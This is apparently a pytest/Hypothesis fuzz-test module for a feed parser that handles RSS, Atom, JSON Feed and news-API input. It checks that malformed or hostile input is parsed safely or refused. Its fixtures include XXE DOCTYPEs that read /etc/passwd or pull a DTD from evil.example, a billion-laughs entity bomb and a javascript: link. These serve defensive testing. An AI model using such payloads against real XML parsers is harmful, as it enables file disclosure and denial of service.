"""Fuzz the feed parser front: `parse_feed` (RSS/Atom/JSON Feed) and `parse_json_api`.

Property: whatever the bytes, the result is a ParsedFeed or a SourceError, never another
exception; a ParsedFeed holds one-line strings within the documented limits (title 1,000,
summary 4,000), unique ids, a language of two lowercase letters or None, and a publish time
that is None or aware UTC. A DOCTYPE that declares entities is always refused.

Bugs found by fuzzing are kept visible as strict xfails at the end of this module (each with
a minimal `@example`); their inputs are kept out of the main properties so those stay a
regression guard for everything else.
"""

from __future__ import annotations

import json
import math
import re
from datetime import datetime, timedelta
from email.utils import format_datetime
from typing import Any
from urllib.parse import urljoin, urlsplit
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from alerts.errors import SourceError, SourceErrorKind
from alerts.models import Item, JsonApiMapping
from alerts.sources.jsonapi import parse_json_api
from alerts.sources.parse import (
    SUMMARY_MAX_CHARS,
    TITLE_MAX_CHARS,
    ParsedFeed,
    parse_feed,
    parse_xml_fast,
    parse_xml_feedparser,
)
from tests.fuzz.strategies import (
    Property,
    fuzz_settings,
    hostile_text,
    hostile_url,
    is_utf8,
    small_text,
)

SOURCE = "fuzz-src"


def urllib_rejects(url: object) -> bool:
    """A link whose host urllib refuses (`http://[click]/`, `//[::1`, `http://a＃b/`): the
    known bug of test_links_urllib_rejects; kept out of the other properties."""
    if not isinstance(url, str):
        return False
    try:
        urljoin("https://feeds.example/rss", url.strip())
        urlsplit(url.strip())
    except ValueError:
        return True
    return False


# Feed links: hostile, but none that urllib rejects (their own xfail test covers those).
feed_links = hostile_url.filter(lambda url: not urllib_rejects(url))

# feedparser warns when `entry.get("updated_parsed")` falls back to `published_parsed` (its
# issue 310 shim); parse.py asks for every date key in turn, so a feed whose pubDate feedparser
# cannot read triggers it. A warning, not a failure: ignored here, listed in the fuzz report.
FEEDPARSER_310 = "ignore:To avoid breaking existing software:DeprecationWarning"
pytestmark = pytest.mark.filterwarnings(FEEDPARSER_310)

BACKENDS = {"fast": parse_xml_fast, "feedparser": parse_xml_feedparser}

CONTENT_TYPES = (
    None,
    "application/rss+xml",
    "application/atom+xml; charset=utf-8",
    "text/xml; charset=iso-8859-1",
    "application/xml; charset=shift_jis",
    "text/xml; charset=euc-kr",
    "application/xml; charset=utf-16",
    "text/xml; charset=x-no-such-charset",
    "application/feed+json",
    "application/json; charset=latin-1",
    "text/html; charset=utf-8",
    'text/xml; charset="utf-8"; q=0.1',
    "",
)
BASE_URLS = ("", "https://feeds.example/rss", "http://127.0.0.1:8080/a/b?c=1")  # configured, valid


# ---- the property ------------------------------------------------------------------------


def check_item(item: Item) -> None:
    assert isinstance(item, Item)
    assert isinstance(item.id, str)
    assert item.id
    assert item.source == SOURCE
    for name, limit in (("title", TITLE_MAX_CHARS), ("summary", SUMMARY_MAX_CHARS)):
        text = getattr(item, name)
        assert isinstance(text, str), name
        assert len(text) <= limit, f"{name} of {len(text)} chars over {limit}"
        assert not re.search(r"[\r\n\t]", text), f"{name} is not one line"
        assert text == text.strip(), f"{name} has outer whitespace"
    assert isinstance(item.url, str)
    when = item.published_at
    if when is not None:
        assert isinstance(when, datetime)
        assert when.tzinfo is not None, "naive published_at"
        assert when.utcoffset() == timedelta(0), "published_at not UTC"
    assert item.lang is None or re.fullmatch(r"[a-z]{2}", item.lang), item.lang
    assert item.published_local is None or isinstance(item.published_local, str)


def check_feed(feed: ParsedFeed) -> None:
    assert isinstance(feed, ParsedFeed)
    assert isinstance(feed.title, str)
    assert len(feed.title) <= TITLE_MAX_CHARS
    assert feed.ttl_s is None or (math.isfinite(feed.ttl_s) and feed.ttl_s > 0)
    assert isinstance(feed.items, tuple)
    for item in feed.items:
        check_item(item)
    ids = [item.id for item in feed.items]
    assert len(ids) == len(set(ids)), "ids not unique within one document"


def parse_or_refuse(body: bytes, content_type: str | None, url: str, backend: str) -> Any:
    """ParsedFeed (checked) or the SourceError; any other exception propagates (a failure)."""
    try:
        feed = parse_feed(
            body,
            source=SOURCE,
            content_type=content_type,
            url=url,
            xml_backend=BACKENDS[backend],
        )
    except SourceError as err:
        refused = err
    else:
        check_feed(feed)
        return feed
    assert_refusal(refused, SourceErrorKind.PARSE, SourceErrorKind.TOO_LARGE)
    return refused


def assert_refusal(err: SourceError, *kinds: SourceErrorKind) -> None:
    assert err.source == SOURCE
    assert err.kind in kinds


def check_parse(case: tuple[bytes, str | None, str, str]) -> None:
    parse_or_refuse(*case)


# ---- arbitrary bytes ---------------------------------------------------------------------

PREFIXES = (
    b"",
    b"<?xml version='1.0'?>",
    b"<rss version='2.0'><channel><item><title>",
    b'<feed xmlns="http://www.w3.org/2005/Atom"><entry>',
    b"<rdf:RDF>",
    b"{",
    b'\xef\xbb\xbf{"version":"https://jsonfeed.org/version/1","items":[',
    b"\xff\xfe<\x00?\x00",
    b"\xfe\xff\x00<",
    b"<\x00\x00\x00",
    b"<!DOCTYPE html>",
    b"<!DOCTYPE x [",
)
arbitrary_bytes = st.tuples(
    st.builds(lambda p, b: p + b, st.sampled_from(PREFIXES), st.binary(max_size=2048)),
    st.sampled_from(CONTENT_TYPES),
    st.sampled_from(BASE_URLS),
    st.sampled_from(sorted(BACKENDS)),
)


# ---- structured RSS / Atom documents ------------------------------------------------------

ENTITIES = (
    "&amp;", "&lt;", "&gt;", "&quot;", "&apos;", "&#0;", "&#x1F680;", "&#55296;", "&#xDFFF;",
    "&nbsp;", "&unknown;", "&#99999999;", "&#x110000;", "&", "&amp;lt;script&amp;gt;", "&#;",
    "&#x;", "&lt;![CDATA[", "&#8232;", "&#13;&#10;",
)  # fmt: skip


def _cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


XML_DATES = (
    "Tue, 25 Nov 2026 07:15:00 +0900",
    "Tue, 10 Jun 99999 04:00:00 GMT",
    "Mon, 01 Jan 0001 00:00:00 +2359",
    "Fri, 31 Dec 9999 23:59:59 -2359",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-13-45T99:99:99Z",
    "0000-00-00",
    "",
    "   ",
    "1e308",
    "2026-11-25",
    "25 Nov 2026 07:15 KST",
    "2026年11月25日 07時15分",
)
xml_dates = st.one_of(
    st.sampled_from(XML_DATES),
    st.datetimes(timezones=st.timezones()).map(lambda d: format_datetime(d) if d.year > 1 else ""),
    st.datetimes(timezones=st.timezones()).map(datetime.isoformat),
    small_text,
)


@st.composite
def xml_text(draw: st.DrawFn, text: st.SearchStrategy[str] = hostile_text) -> str:
    """Element content: escaped, CDATA, raw (maybe malformed) markup, entities, nested tags."""
    value = draw(text)
    form = draw(st.sampled_from(["escaped", "cdata", "raw", "entities", "nested", "xhtml"]))
    if form == "escaped":
        return escape(value)
    if form == "cdata":
        return _cdata(value)
    if form == "raw":
        return value
    if form == "entities":
        pieces = draw(st.lists(st.one_of(st.sampled_from(ENTITIES), small_text.map(escape))))
        return "".join(pieces)
    depth = draw(st.integers(1, 60))
    tag = draw(st.sampled_from(["b", "i", "p", "div", "script", "style", "a", "br/", "x:y"]))
    open_tags = f"<{tag}>" * depth
    close_tags = "" if tag.endswith("/") else f"</{tag}>" * depth
    return f"{open_tags}{escape(value)}{close_tags}"


def _attrs(draw: st.DrawFn) -> str:
    """Zero or more attributes, one of them possibly huge."""
    size = draw(st.sampled_from([0, 0, 10, 70_000]))
    attrs = draw(st.lists(st.sampled_from(["type", "x", "xml:lang", "href", "rel"]), max_size=3))
    out = "".join(f" {a}={quoteattr(draw(small_text))}" for a in dict.fromkeys(attrs))
    return out + (f' big="{"a" * size}"' if size else "")


DOCTYPES = (
    "",
    "",
    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
    '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    "<!DOCTYPE html>",
    "<!doctype x [<!ELEMENT x ANY>]>",
    "<!DOCTYPE rss [<!ATTLIST item x CDATA 'y'>]>",
)
ENCODINGS = (
    "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32",
    "latin-1", "cp1252", "shift_jis", "euc-kr", "gb18030", "koi8-r", "ascii",
)  # fmt: skip
DECLARED = (None, "utf-8", "UTF-8", "iso-8859-1", "windows-1252", "shift_jis", "euc-kr",
            "utf-16", "x-bogus", "utf-7", "ebcdic-cp-us", "")  # fmt: skip


@st.composite
def xml_entry(draw: st.DrawFn, atom: bool) -> str:
    link = quoteattr(draw(feed_links))
    fields = [
        f"<title{_attrs(draw)}>{draw(xml_text())}</title>",
        f"<link href={link}/>" if atom else f"<link>{escape(draw(feed_links))}</link>",
        f"<{'id' if atom else 'guid'}>{draw(xml_text(small_text))}</{'id' if atom else 'guid'}>",
        f"<{'summary' if atom else 'description'}{_attrs(draw)}>{draw(xml_text())}"
        f"</{'summary' if atom else 'description'}>",
        f"<{'updated' if atom else 'pubDate'}>{escape(draw(xml_dates))}"
        f"</{'updated' if atom else 'pubDate'}>",
        f'<content type="html">{draw(xml_text())}</content>' if atom else "",
        "<published>" + escape(draw(xml_dates)) + "</published>" if atom else "",
    ]
    chosen = draw(st.lists(st.sampled_from(fields), max_size=len(fields), unique=True))
    tag = "entry" if atom else "item"
    return f"<{tag}>{''.join(chosen)}</{tag}>"


@st.composite
def xml_documents(draw: st.DrawFn) -> tuple[bytes, str | None, str, str, bool]:
    atom = draw(st.booleans())
    entries = "".join(draw(st.lists(xml_entry(atom), max_size=5)))
    lang = escape(draw(st.one_of(st.sampled_from(["en", "ko-KR", "ja_JP", "x", ""]), small_text)))
    title = draw(xml_text())
    ttl = escape(draw(st.one_of(st.sampled_from(["15", "-1", "nan", "inf", "1e400"]), small_text)))
    if atom:
        body = (
            f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang={quoteattr(lang)}>'
            f"<title{_attrs(draw)}>{title}</title>{entries}</feed>"
        )
    else:
        body = (
            f'<rss version="2.0"><channel><title>{title}</title><ttl>{ttl}</ttl>'
            f"<language>{lang}</language>{entries}</channel></rss>"
        )
    if draw(st.booleans()):  # truncated mid-document
        body = body[: draw(st.integers(0, len(body)))]
    declared = draw(st.sampled_from(DECLARED))
    decl = "" if declared is None else f'<?xml version="1.0" encoding="{declared}"?>'
    doctype = draw(st.sampled_from(DOCTYPES))
    text = decl + doctype + body
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors=draw(st.sampled_from(["replace", "xmlcharrefreplace"])))
    return (
        data,
        draw(st.sampled_from(CONTENT_TYPES)),
        draw(st.sampled_from(BASE_URLS)),
        draw(st.sampled_from(sorted(BACKENDS))),
        "<!ENTITY" in doctype,
    )


def check_xml_document(case: tuple[bytes, str | None, str, str, bool]) -> None:
    *args, declares_entities = case
    result = parse_or_refuse(*args)
    if declares_entities:
        assert isinstance(result, SourceError), "a DOCTYPE declaring entities was not refused"


# ---- structured JSON Feed documents -------------------------------------------------------

json_scalars = st.one_of(
    hostile_text,
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.none(),
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(small_text, inner, max_size=3),
    max_leaves=6,
)
# ISO 8601 times whose conversion to UTC stays inside datetime's range (years 2-9998); the
# range edges are the known bug kept in test_json_feed_dates_at_the_range_edges.
iso_dates = st.one_of(
    st.datetimes(
        min_value=datetime(2, 1, 1), max_value=datetime(9998, 12, 31), timezones=st.timezones()
    ).map(datetime.isoformat),
    st.datetimes(min_value=datetime(2, 1, 1), max_value=datetime(9998, 12, 31)).map(
        datetime.isoformat
    ),
    st.sampled_from(["2026-11-25T07:15:00Z", "2026-11-25", "garbage", "", "2026-02-30T00:00"]),
    small_text,
)


@st.composite
def json_item(draw: st.DrawFn) -> dict[str, Any]:
    item: dict[str, Any] = {}
    for key, values in (
        ("id", st.one_of(small_text, st.integers(), json_values)),
        ("url", st.one_of(feed_links, json_values.filter(lambda v: not urllib_rejects(v)))),
        ("external_url", feed_links),
        ("title", st.one_of(hostile_text, json_values)),
        ("summary", hostile_text),
        ("content_html", st.one_of(hostile_text, xml_text())),
        ("content_text", hostile_text),
        ("date_published", st.one_of(iso_dates, json_values)),
        ("date_modified", iso_dates),
        ("language", st.one_of(st.sampled_from(["en", "ko-KR", "x", "日本"]), json_values)),
    ):
        if draw(st.booleans()):
            item[key] = draw(values)
    return item


@st.composite
def json_feed_documents(draw: st.DrawFn) -> tuple[bytes, str | None, str, str]:
    doc: dict[str, Any] = {
        "version": draw(
            st.sampled_from(["https://jsonfeed.org/version/1.1", "https://jsonfeed.org/version/1"])
        ),
        "title": draw(st.one_of(hostile_text, json_values)),
        "items": draw(st.lists(st.one_of(json_item(), json_values), max_size=5)),
    }
    if draw(st.booleans()):
        doc["language"] = draw(st.one_of(small_text, json_values))
    text = json.dumps(doc, ensure_ascii=draw(st.booleans()))
    if draw(st.booleans()):
        text = "\ufeff" + text
    if draw(st.integers(0, 9)) == 0:  # truncated
        text = text[: draw(st.integers(0, len(text)))]
    return (
        text.encode("utf-8"),
        draw(st.sampled_from(CONTENT_TYPES)),
        draw(st.sampled_from(BASE_URLS)),
        draw(st.sampled_from(sorted(BACKENDS))),
    )


# ---- JSON news APIs (GDELT-like) ----------------------------------------------------------

PATHS = ("articles", "data.items", "data.0.list", "a", "", "0", "items.x", "results")
api_dates = st.one_of(
    st.sampled_from(
        ["20261125T001000Z", "20261125001000", "99999999T999999Z", "Tue, 25 Nov 2026 07:15:00 GMT"]
    ),
    iso_dates,
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    json_values,
)
mappings = st.builds(
    JsonApiMapping,
    items=st.sampled_from(PATHS),
    title=st.sampled_from(["title", "headline", "t.x", ""]),
    url=st.sampled_from(["url", "link", "u.0"]),
    id=st.sampled_from([None, "id", "url"]),
    summary=st.sampled_from([None, "summary", "body"]),
    published=st.sampled_from([None, "seendate", "date"]),
    lang=st.sampled_from([None, "language", "lang"]),
)


@st.composite
def api_records(draw: st.DrawFn) -> dict[str, Any]:
    record: dict[str, Any] = {}
    for key in ("title", "headline", "url", "link", "id", "summary", "body", "language", "lang"):
        if draw(st.booleans()):
            value = draw(st.one_of(hostile_text, feed_links, json_values))
            if key in ("url", "link") and urllib_rejects(value):
                value = "https://ok.example/replaced"
            record[key] = value
    for key in ("seendate", "date"):
        if draw(st.booleans()):
            record[key] = draw(api_dates)
    return record


def _nest(path: str, value: Any) -> Any:
    for step in reversed(path.split(".")) if path else []:
        value = [value] if step.isdigit() else {step: value}
    return value


@st.composite
def json_api_documents(draw: st.DrawFn) -> tuple[bytes, JsonApiMapping]:
    mapping = draw(mappings)
    records = draw(st.lists(st.one_of(api_records(), json_values), max_size=5))
    doc = draw(st.one_of(st.just(_nest(mapping.items, records)), json_values, st.just({})))
    text = json.dumps(doc, ensure_ascii=draw(st.booleans()))
    if draw(st.integers(0, 9)) == 0:
        text = text[: draw(st.integers(0, len(text)))]
    return text.encode("utf-8"), mapping


def check_json_api(case: tuple[bytes, JsonApiMapping]) -> None:
    body, mapping = case
    try:
        feed = parse_json_api(body, source=SOURCE, mapping=mapping, url="https://api.example/q")
    except SourceError as err:
        assert_refusal(err, SourceErrorKind.PARSE)
    else:
        check_feed(feed)


def check_json_api_bytes(case: tuple[bytes, JsonApiMapping]) -> None:
    check_json_api(case)


# ---- bugs found by fuzzing, now fixed: regression tests -------------------------------------

EDGE_DATES = (
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:30:00+05:00",
    "9999-12-31T23:00:00-05:00",
    "9999-12-31T23:59:59.999999-00:01",
)
edge_dates = st.one_of(
    st.sampled_from(EDGE_DATES),
    st.builds(
        lambda minute, hours: f"0001-01-01T00:{minute:02d}:00+{hours:02d}:00",
        st.integers(0, 59),
        st.integers(1, 23),
    ),
)


def _json_feed_with_date(date: str) -> bytes:
    item = {"id": "1", "title": "t", "url": "https://x.example/1", "date_published": date}
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]}).encode()


def check_json_feed_edge_date(date: str) -> None:
    parse_or_refuse(_json_feed_with_date(date), None, "", "fast")


def check_json_api_edge_date(date: str) -> None:
    body = json.dumps(
        {"articles": [{"title": "t", "url": "https://x.example/1", "seendate": date}]}
    )
    check_json_api((body.encode(), JsonApiMapping()))


# Lone surrogates written as JSON escapes (`"\ud800"`): json.loads accepts them; UTF-8 cannot
# carry them, so Redis (strict encoding) and every channel's send would fail on such a title.
lone_surrogates = st.builds(
    lambda before, code, after: f"{before}\\u{code:04x}{after}",
    st.sampled_from(["", "N. Korea fires ", "x"]),
    st.integers(0xD800, 0xDFFF),
    st.sampled_from(["", " missile", "y"]),
)


def check_json_feed_text_is_utf8(escaped_title: str) -> None:
    body = (
        '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1",'
        f'"url":"https://x.example/1","title":"{escaped_title}","summary":"{escaped_title}"'
        "}]}"
    ).encode()
    result = parse_or_refuse(body, None, "", "fast")
    if isinstance(result, ParsedFeed):
        for item in result.items:
            assert is_utf8(item.title), f"title {item.title!r} cannot be encoded as UTF-8"
            assert is_utf8(item.summary), f"summary {item.summary!r} cannot be encoded as UTF-8"


def check_json_api_text_is_utf8(escaped_title: str) -> None:
    body = f'{{"articles":[{{"title":"{escaped_title}","url":"https://x.example/1"}}]}}'.encode()
    try:
        feed = parse_json_api(body, source=SOURCE, mapping=JsonApiMapping())
    except SourceError:
        return
    for item in feed.items:
        assert is_utf8(item.title), f"title {item.title!r} cannot be encoded as UTF-8"


# A DOCTYPE declaring entities, in UTF-32 without a byte order mark.
BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="utf-32"?><!DOCTYPE rss [<!ENTITY a "AAAAAAAAAA">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    '<rss version="2.0"><channel><title>t</title><item><title>x &c;</title>'
    "<link>https://a.example/1</link></item></channel></rss>"
)
utf32_entity_documents = st.builds(
    lambda doctype, title, codec: (
        f'<?xml version="1.0" encoding="utf-32"?>{doctype}<rss version="2.0"><channel>'
        f"<title>t</title><item><title>{escape(title)} &lol2;</title></item></channel></rss>"
    ).encode(codec),
    st.sampled_from([d for d in DOCTYPES if "<!ENTITY" in d and "lol" in d]),
    small_text,
    st.sampled_from(["utf-32-le", "utf-32-be"]),
)


def check_entities_refused(body: bytes) -> None:
    result = parse_or_refuse(body, None, "https://feeds.example/rss", "fast")
    assert isinstance(result, SourceError), "a DOCTYPE declaring entities was parsed"


bracketed_links = st.one_of(
    st.builds(
        lambda scheme, host, rest: f"{scheme}[{host}]{rest}",
        st.sampled_from(["http://", "https://", "//", "HTTP://"]),
        st.one_of(st.sampled_from(["click", "::1", "x", "v1.x", ""]), small_text),
        st.sampled_from(["", "/", "/a?b=1", "(javascript:alert(1))"]),
    ),
    st.builds(  # characters whose NFKC form is a URL delimiter: fullwidth # ? / and ℀
        lambda scheme, char: f"{scheme}news{char}example/x",
        st.sampled_from(["http://", "https://", "//"]),
        st.sampled_from(["\uff03", "\uff1f", "\uff0f", "\u2100", "\uff20"]),
    ),
)
bracketed_documents = st.builds(
    lambda link, form: (
        form,
        link,
        json.dumps(
            {"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1", "url": link}]}
        ).encode()
        if form == "json_feed"
        else json.dumps({"articles": [{"title": "t", "url": link}]}).encode()
        if form == "json_api"
        else (
            '<rss version="2.0"><channel><title>t</title><item><title>x</title>'
            f"<link>{escape(link)}</link></item></channel></rss>"
        ).encode(),
    ),
    bracketed_links,
    st.sampled_from(["rss", "json_feed", "json_api"]),
)


def _json_feed_link(link: str) -> bytes:
    item = {"id": "1", "title": "t", "url": link}
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]}).encode()


def check_bracketed_link(case: tuple[str, str, bytes]) -> None:
    form, _, body = case
    if form == "json_api":
        check_json_api((body, JsonApiMapping()))
    else:
        parse_or_refuse(body, None, "https://feeds.example/rss", "fast")


PROPERTIES: dict[str, Property] = {
    "parse.utf32_entity_guard": Property(utf32_entity_documents, check_entities_refused),
    "parse.links_urllib_rejects": Property(bracketed_documents, check_bracketed_link),
    "parse.arbitrary_bytes": Property(arbitrary_bytes, check_parse),
    "parse.rss_atom_documents": Property(xml_documents(), check_xml_document),
    "parse.json_feed_documents": Property(json_feed_documents(), check_parse),
    "jsonapi.documents": Property(json_api_documents(), check_json_api),
    "jsonapi.arbitrary_bytes": Property(
        st.tuples(st.binary(max_size=2048), mappings), check_json_api_bytes
    ),
    "parse.json_feed_edge_dates": Property(edge_dates, check_json_feed_edge_date),
    "jsonapi.edge_dates": Property(edge_dates, check_json_api_edge_date),
    "parse.json_feed_lone_surrogates": Property(lone_surrogates, check_json_feed_text_is_utf8),
    "jsonapi.lone_surrogates": Property(lone_surrogates, check_json_api_text_is_utf8),
}


# ---- the pytest run: small, deterministic budgets ------------------------------------------


@fuzz_settings(300)
@given(arbitrary_bytes)
def test_arbitrary_bytes_parse_or_refuse(case: tuple[bytes, str | None, str, str]) -> None:
    check_parse(case)


@fuzz_settings(120)
@given(xml_documents())
def test_hostile_rss_and_atom_documents(case: tuple[bytes, str | None, str, str, bool]) -> None:
    check_xml_document(case)


@fuzz_settings(250)
@given(json_feed_documents())
def test_hostile_json_feed_documents(case: tuple[bytes, str | None, str, str]) -> None:
    check_parse(case)


@fuzz_settings(250)
@given(json_api_documents())
def test_hostile_json_api_documents(case: tuple[bytes, JsonApiMapping]) -> None:
    check_json_api(case)


@fuzz_settings(200)
@given(st.tuples(st.binary(max_size=2048), mappings))
def test_json_api_arbitrary_bytes(case: tuple[bytes, JsonApiMapping]) -> None:
    check_json_api_bytes(case)


@fuzz_settings(50)
@given(edge_dates)
@example("0001-01-01T00:00:00+01:00")
def test_json_feed_dates_at_the_range_edges(date: str) -> None:
    check_json_feed_edge_date(date)


@fuzz_settings(50)
@given(edge_dates)
@example("0001-01-01T00:00:00+01:00")
def test_json_api_dates_at_the_range_edges(date: str) -> None:
    check_json_api_edge_date(date)


@fuzz_settings(50)
@given(lone_surrogates)
@example("N. Korea fires \\ud800 missile")
def test_json_feed_text_is_utf8(escaped_title: str) -> None:
    check_json_feed_text_is_utf8(escaped_title)


@fuzz_settings(50)
@given(lone_surrogates)
@example("N. Korea fires \\ud800 missile")
def test_json_api_text_is_utf8(escaped_title: str) -> None:
    check_json_api_text_is_utf8(escaped_title)


@fuzz_settings(30)
@given(utf32_entity_documents)
@example(BILLION_LAUGHS.encode("utf-32-le"))
def test_entity_guard_in_utf32_without_bom(body: bytes) -> None:
    check_entities_refused(body)


@fuzz_settings(50)
@given(bracketed_documents)
@example(("json_feed", "http://[click]/", _json_feed_link("http://[click]/")))
def test_links_urllib_rejects(case: tuple[str, str, bytes]) -> None:
    check_bracketed_link(case)
